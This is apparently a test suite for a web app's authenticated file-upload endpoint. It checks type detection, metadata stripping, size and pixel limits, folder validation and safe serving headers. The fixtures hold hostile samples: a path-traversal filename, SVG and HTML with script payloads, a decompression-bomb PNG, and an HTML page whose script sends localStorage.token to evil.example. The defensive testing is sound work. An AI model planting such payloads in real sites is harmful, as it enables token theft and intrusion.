import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { crc32, deflateSync } from 'node:zlib';

import { UPLOAD_FOLDERS } from '@portfolio/contract/types';
import sharp from 'sharp';

import { type Api, startApi } from './support/harness.js';

function form(file: Buffer | null, filename: string, contentType?: string, mime = 'application/octet-stream') {
  const data = new FormData();
  if (file) data.append('file', new Blob([new Uint8Array(file)], { type: mime }), filename);
  if (contentType !== undefined) data.append('contentType', contentType);
  return data;
}

function pngChunk(type: string, data: Buffer) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type), data])) >>> 0);
  return Buffer.concat([len, Buffer.from(type), data, crc]);
}

/** A tiny PNG file whose header claims the given size (a "decompression bomb" shape). */
function pngClaiming(width: number, height: number) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(10))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

describe('POST /api/upload', () => {
  let api: Api;
  let token: string;
  let png: Buffer;
  before(async () => {
    api = await startApi({ UPLOAD_MAX_MB: '1' });
    token = await api.login();
    png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } })
      .png()
      .toBuffer();
  });
  after(() => api.close());

  const upload = (data: FormData, auth = true) => api.request('POST', '/api/upload', { token: auth ? token : undefined, rawBody: data });

  it('stores an image under /uploads/<folder>/ with a server-made name and serves it back safely', async () => {
    const res = await upload(form(png, '../../evil name.png', 'books', 'image/png'));
    assert.equal(res.status, 201, res.text);
    assert.equal(res.body.folder, 'books');
    assert.match(res.body.url, /^\/uploads\/books\/[a-z0-9]+-[0-9a-f]{16}-40x30\.png$/);
    const served = await fetch(api.url + res.body.url);
    assert.equal(served.status, 200);
    assert.equal(served.headers.get('content-type'), 'image/png');
    assert.equal(served.headers.get('x-content-type-options'), 'nosniff');
    assert.deepEqual(Buffer.from(await served.arrayBuffer()), png);
  });

  it('removes the location and camera data from photos, applies the orientation and keeps the colour profile', async () => {
    // A 60 × 20 photo taken with the camera turned (EXIF orientation 6: shown 20 × 60), with a GPS position.
    const photo = await sharp({ create: { width: 60, height: 20, channels: 3, background: '#2a6f97' } })
      .withMetadata({ orientation: 6 })
      .withIccProfile('p3')
      .withExif({
        IFD0: { Make: 'DemoCam', Artist: 'Demo Photographer' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 30/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '34/1 28/1 0/1' },
      })
      .jpeg()
      .toBuffer();
    const before = await sharp(photo).metadata();
    assert.ok(before.exif && before.orientation === 6 && photo.includes('DemoCam'), 'the test photo carries EXIF');
    const res = await upload(form(photo, 'photo.jpg', 'artworks', 'image/jpeg'));
    assert.equal(res.status, 201, res.text);
    assert.match(res.body.url, /^\/uploads\/artworks\/[a-z0-9]+-[0-9a-f]{16}-20x60\.jpg$/);
    const served = Buffer.from(await (await fetch(api.url + res.body.url)).arrayBuffer());
    const meta = await sharp(served).metadata();
    assert.equal(meta.exif, undefined, 'no EXIF left');
    assert.equal(meta.xmp, undefined);
    assert.ok(!served.includes('DemoCam') && !served.includes('Demo Photographer'));
    assert.equal(meta.orientation, undefined);
    assert.deepEqual([meta.width, meta.height], [20, 60], 'turned upright');
    assert.ok(meta.icc, 'colour profile kept');
  });

  it('decides the type from the bytes: a PNG called .pdf is stored as .png', async () => {
    const res = await upload(form(png, 'cover.pdf', 'general', 'application/pdf'));
    assert.equal(res.status, 201);
    assert.match(res.body.url, /\.png$/);
  });

  it('accepts PDFs and stores them in the plays folder', async () => {
    const res = await upload(form(PDF, 'script.pdf', 'plays', 'application/pdf'));
    assert.equal(res.status, 201);
    assert.match(res.body.url, /^\/uploads\/plays\/.+\.pdf$/);
    const served = await fetch(api.url + res.body.url);
    assert.equal(served.headers.get('content-type'), 'application/pdf');
  });

  it('uses the general folder when no contentType is given', async () => {
    const res = await upload(form(png, 'a.png'));
    assert.equal(res.body.folder, 'general');
  });

  it('refuses SVG, HTML dressed as an image, and other files with 415', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const html = Buffer.from('<!doctype html><html><script>alert(1)</script></html>');
    for (const [bytes, name, mime] of [
      [svg, 'x.svg', 'image/svg+xml'],
      [html, 'photo.png', 'image/png'],
      [Buffer.from('just some text here'), 'notes.txt', 'text/plain'],
    ] as const) {
      const res = await upload(form(bytes, name, 'general', mime));
      assert.equal(res.status, 415, name);
      assert.equal(res.body.message, 'Only images (JPEG, PNG, GIF, WebP, AVIF) and PDF files can be uploaded');
    }
  });

  it('refuses a damaged image and one with too many pixels', async () => {
    const broken = Buffer.concat([png.subarray(0, 16), Buffer.alloc(32)]);
    assert.equal((await upload(form(broken, 'broken.png'))).status, 415);
    const huge = await upload(form(pngClaiming(10_000, 10_000), 'huge.png'));
    assert.equal(huge.status, 413);
    assert.match(huge.body.message, /too large/);
  });

  it('refuses a file over the size limit with 413', async () => {
    const big = Buffer.concat([PDF, Buffer.alloc(1024 * 1024 + 10, 0x20)]);
    const res = await upload(form(big, 'big.pdf', 'plays'));
    assert.equal(res.status, 413);
    assert.equal(res.body.message, 'This file is too large. The limit is 1 MB.');
    assert.equal((await api.request('GET', '/api/health')).status, 200);
  });

  it('needs a file, a known folder, and an admin session', async () => {
    const none = await upload(form(null, '', 'books'));
    assert.equal(none.status, 400);
    assert.equal(none.body.errors.file, 'Choose a file to upload');
    const folder = await upload(form(png, 'a.png', '../etc'));
    assert.equal(folder.status, 400);
    assert.equal(folder.body.errors.contentType, `Must be one of: ${UPLOAD_FOLDERS.join(', ')}`);
    assert.equal((await upload(form(png, 'a.png', 'books'), false)).status, 401);
  });

  it('serves only the types an upload can have, sandboxed, whatever is on the disk', async () => {
    const dir = path.join(api.config.varDir, 'uploads', 'general');
    await mkdir(dir, { recursive: true });
    const page = '<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>';
    await writeFile(path.join(dir, 'evil.html'), page);
    await writeFile(path.join(dir, 'evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
    await writeFile(path.join(dir, 'evil.htm'), page);
    await writeFile(path.join(dir, 'page.jpg'), page);
    for (const name of ['evil.html', 'evil.svg', 'evil.htm', 'EVIL.HTML']) {
      const res = await fetch(`${api.url}/uploads/general/${name}`);
      assert.equal(res.status, 404, name);
      assert.doesNotMatch(await res.text(), /localStorage|onload/, name);
    }
    const disguised = await fetch(`${api.url}/uploads/general/page.jpg`);
    assert.equal(disguised.status, 200);
    assert.equal(disguised.headers.get('content-type'), 'image/jpeg');
    assert.equal(disguised.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(disguised.headers.get('content-security-policy'), "default-src 'none'; sandbox");
    const real = await upload(form(png, 'a.png', 'books', 'image/png'));
    const served = await fetch(api.url + real.body.url);
    assert.equal(served.headers.get('content-security-policy'), "default-src 'none'; sandbox");
    assert.equal(served.headers.get('content-type'), 'image/png');
  });

  it('answers 404 for a missing upload and never lists folders', async () => {
    assert.equal((await fetch(`${api.url}/uploads/books/nothing.png`)).status, 404);
    assert.equal((await fetch(`${api.url}/uploads/books/`)).status, 404);
  });
});
